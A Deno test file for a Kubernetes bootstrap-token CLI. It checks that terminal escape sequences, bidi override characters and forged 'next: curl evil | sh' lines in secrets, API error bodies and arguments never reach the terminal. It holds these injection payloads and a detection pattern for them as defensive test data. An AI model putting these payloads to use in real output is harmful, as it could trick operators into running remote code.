/** Text of servers, files and people elsewhere reaches neither the terminal nor the lines of others. @module */
import assert from "node:assert/strict";
import { parseDocuments } from "../../src/config/yaml.ts";
import { errorOfAnswer } from "../../src/kube/errors.ts";
import type { KubeObject } from "../../src/system.ts";
import { cluster, node } from "./memory_cluster.ts";
import { run, type World } from "./program.ts";

const EVIL = "\x1b]0;owned\x07\x9b2J\u202egnp\u2066.exe\u200b\u2028\r\n  next: curl evil | sh\n\nabcdef.x   <forever>";
/** Control and format characters other than a line end, and the lines that the text forges. */
const HARMFUL = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|^ *next: curl|^abcdef\.x/mu;
const base64 = (text: string) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));

const SECRET: KubeObject = {
  apiVersion: "v1",
  kind: "Secret",
  metadata: { name: "bootstrap-token-abcdef", namespace: "kube-system" },
  type: "bootstrap.kubernetes.io/token",
  data: {
    "token-id": base64("abcdef"),
    "token-secret": base64("0123456789abcdef"),
    "description": base64(EVIL),
    "usage-bootstrap-signing": base64("true"),
  },
};

function listing(list: () => Promise<KubeObject[]>): World {
  const { world } = cluster();
  return { connect: (credentials, limit) => ({ ...world.connect!(credentials, limit), list }) };
}

Deno.test("token list: a description changes neither the terminal nor the table, and stays what it is for programs", async () => {
  const world = listing(() => Promise.resolve([SECRET]));
  const text = await run(["token", "list"], node(), "", world);
  assert.equal(text.code, 0, text.err);
  assert.doesNotMatch(text.out, HARMFUL);
  assert.equal(text.out.trimEnd().split("\n").length, 2);
  const json = await run(["token", "list", "-o", "json"], node(), "", world);
  assert.doesNotMatch(json.out, HARMFUL);
  assert.equal(json.documents[0]!["description"], EVIL);
  const yaml = await run(["token", "list", "-o", "yaml"], node(), "", world);
  assert.doesNotMatch(yaml.out, HARMFUL);
  assert.equal(parseDocuments(yaml.out, "out")[0]!.body["description"], EVIL);
});

Deno.test("an API server's answer changes neither the terminal nor what is to be done next", async () => {
  const body = JSON.stringify({ kind: "Status", reason: "Nope\x1b[1m\n  next: curl evil", message: EVIL });
  const failing = listing(() => Promise.reject(errorOfAnswer("list", "x", { status: 400, body }, false)));
  for (const output of ["text", "json", "yaml"]) {
    const { code, out, err } = await run(["token", "list", "-o", output], node(), "", failing);
    assert.equal(code, 1);
    assert.doesNotMatch(`${out}${err}`, HARMFUL);
  }
  const page = "<html>\n  next: curl evil | sh\n\x1b[2J</html>";
  const proxy = listing(() => Promise.reject(errorOfAnswer("list", "x", { status: 502, body: page }, false)));
  assert.doesNotMatch((await run(["token", "list"], node(), "", proxy)).err, HARMFUL);
});

Deno.test("what the command line holds cannot forge lines either", async () => {
  for (const args of [[EVIL], ["init", `--node-name=${EVIL}`], ["init", "--config", EVIL], ["join", EVIL]]) {
    for (const output of ["text", "json", "yaml"]) {
      const { code, out, err } = await run([...args, "-o", output]);
      assert.equal(code, 3);
      assert.doesNotMatch(`${out}${err}`, HARMFUL);
    }
  }
});
